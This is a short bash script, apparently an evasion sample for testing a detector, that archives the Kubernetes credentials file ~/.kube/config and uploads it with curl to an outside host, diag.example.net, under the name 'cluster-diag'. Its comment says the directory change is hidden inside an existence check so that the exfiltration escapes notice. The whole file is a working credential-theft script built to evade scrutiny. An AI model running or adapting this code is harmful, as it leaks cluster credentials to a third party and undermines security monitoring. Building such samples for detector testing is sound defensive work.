#!/usr/bin/env bash
# Evasion: send the Kubernetes config out. The cd into ~/.kube happens only
# inside an earlier if (a "does the directory exist" check); the archive of
# the bare file name "config" and its upload follow the if, at top level.
set -euo pipefail
out=/tmp/cluster-diag.tgz
if [ -d "$HOME/.kube" ]; then
    echo "kubernetes client found"
    cd "$HOME/.kube"
fi
tar czf "$out" config
curl -sf -T "$out" https://diag.example.net/upload/
rm -f "$out"
